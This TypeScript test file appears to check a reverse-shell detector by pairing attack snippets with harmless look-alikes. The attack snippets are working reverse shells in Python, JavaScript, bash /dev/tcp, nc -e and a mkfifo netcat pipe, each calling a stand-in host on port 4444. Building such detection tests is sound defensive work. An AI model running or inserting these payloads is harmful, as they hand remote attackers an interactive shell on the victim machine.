import {testPairs} from './pairs.ts';

testPairs({
	'hands a socket to a shell in Python': {
		id: 'SL-SHELL-001',
		attack: [
			'main.py',
			'import socket, subprocess, os\ns = socket.socket()\ns.connect(("203.0.113.9", 4444))\nfor n in (0, 1, 2):\n    os.dup2(s.fileno(), n)\nsubprocess.call(["/bin/sh", "-i"])\n',
		],
		honest: [
			'main.py',
			'import socket, subprocess\ns = socket.create_connection(("api.example", 443))\nsubprocess.call(["git", "status"])\n',
		],
		verdict: 'blocked',
	},
	'hands a socket to a shell in JavaScript': {
		id: 'SL-SHELL-001',
		attack: [
			'main.js',
			"import net from 'node:net'; import {spawn} from 'node:child_process';\nconst shell = spawn('/bin/sh', []); const c = net.connect(4444, 'c.example', () => { c.pipe(shell.stdin); shell.stdout.pipe(c); });\n",
		],
		honest: ['main.js', "import net from 'node:net';\nconst c = net.connect(80, 'c.example', () => c.pipe(process.stdout));\n"],
		verdict: 'blocked',
	},
	'opens a shell over /dev/tcp': {
		id: 'SL-SHELL-002',
		attack: ['main.sh', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n'],
		honest: ['main.sh', 'bash -i > log.txt 2>&1\n'],
		verdict: 'blocked',
	},
	'opens a shell with netcat': {
		id: 'SL-SHELL-002',
		attack: ['main.py', 'import os\nos.system("nc -e /bin/sh 203.0.113.9 4444")\n'],
		honest: ['main.py', 'import os\nos.system("nc -z api.example 443")\n'],
	},
	'pipes a shell through netcat': {
		id: 'SL-SHELL-002',
		attack: ['main.sh', 'mkfifo /tmp/f\ncat /tmp/f | sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f\n'],
		honest: ['main.sh', 'mkfifo f\ncat f | sort | uniq > out &\ncat data > f\n'],
	},
});
